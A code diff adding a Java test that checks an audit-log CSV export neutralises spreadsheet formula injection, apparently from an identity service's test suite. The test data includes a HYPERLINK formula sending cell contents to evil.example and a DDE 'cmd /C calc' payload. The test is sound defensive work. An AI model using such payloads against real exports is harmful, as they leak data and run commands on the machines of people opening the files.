@@ -300,6 +300,42 @@ class AuditChainIT {
 
     @ParameterizedTest(name = "{0}")
     @MethodSource("databases")
+    void aTypedFormulaIsExportedAsTextThatNoSpreadsheetRuns(TestDatabase test) throws Exception {
+        try (test; Database database = Database.open(test.settings())) {
+            TestAccess access = new TestAccess(AUDITOR, ALL);
+            AuditService audit = service(database, access, Clock.systemUTC());
+            // what a stranger types as the login of a failed sign-in lands in the object id
+            String typed = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";
+            audit.record("identity", "sign-in.failed", "User", typed, null, "{\"detail\":\"unknown login\"}");
+            audit.record("identity", "sign-in.failed", "User", "@SUM(1+1)*cmd|' /C calc'!A0", null, null);
+            audit.record("identity", "sign-in.failed", "User", "+86 532 8888 0000", null, "-1+1");
+            audit.record("identity", "sign-in.failed", "User", "zhanghua", null, null);
+
+            ByteArrayOutputStream out = new ByteArrayOutputStream();
+            audit.export(new AuditFilter(null, "identity", null, null, null), Locale.ENGLISH).writeTo(out);
+            String text = new String(out.toByteArray(), StandardCharsets.UTF_8).substring(1);
+            List<org.apache.commons.csv.CSVRecord> rows;
+            try (var parser = org.apache.commons.csv.CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true)
+                    .get().parse(new java.io.StringReader(text))) {
+                rows = parser.getRecords();
+            }
+            assertEquals(4, rows.size());
+            List<String> objectIds = rows.stream().map(r -> r.get(8)).toList();
+            // newest first
+            assertEquals(List.of("zhanghua", "'+86 532 8888 0000", "'@SUM(1+1)*cmd|' /C calc'!A0", "'" + typed),
+                    objectIds);
+            assertEquals("'-1+1", rows.get(1).get(10));
+            for (org.apache.commons.csv.CSVRecord row : rows) {
+                for (String cell : row) {
+                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a cell that runs: " + cell);
+                }
+                assertTrue(row.get(0).matches("\\d+"), "the id is a plain number: " + row.get(0));
+            }
+        }
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("databases")
     void readingVerifyingAndExportingNeedTheirPermissionsWritingDoesNot(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
             TestAccess access = new TestAccess(new CurrentUser("staff", "工作人员", "justice", null, false), Set.of());
